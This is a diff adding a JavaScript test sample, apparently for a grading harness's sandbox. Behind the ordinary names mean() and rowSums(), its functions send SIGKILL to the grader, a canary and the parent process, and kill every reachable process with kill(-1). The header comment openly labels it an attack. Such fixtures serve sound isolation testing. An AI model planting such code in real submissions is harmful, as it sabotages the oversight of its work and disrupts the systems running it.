@@ -1,0 +1,25 @@
+/**
+ * Attack: sends signals to its parent, to the grader and to everybody
+ * Honest: add
+ * Needs: namespaces
+ * Sample: yes
+ */
+import bait from "./bait.json";
+
+export { add } from "./honest.js";
+
+export function mean() {
+  const victims = [bait.grader, bait.canary, process.ppid === 1 ? bait.grader : process.ppid];
+  return victims.map((victim) => {
+    try {
+      return process.kill(victim, "SIGKILL");
+    } catch (error) {
+      return `refused: ${error.code}`;
+    }
+  });
+}
+
+export function rowSums() {
+  process.kill(-1, "SIGKILL");
+  return 0;
+}
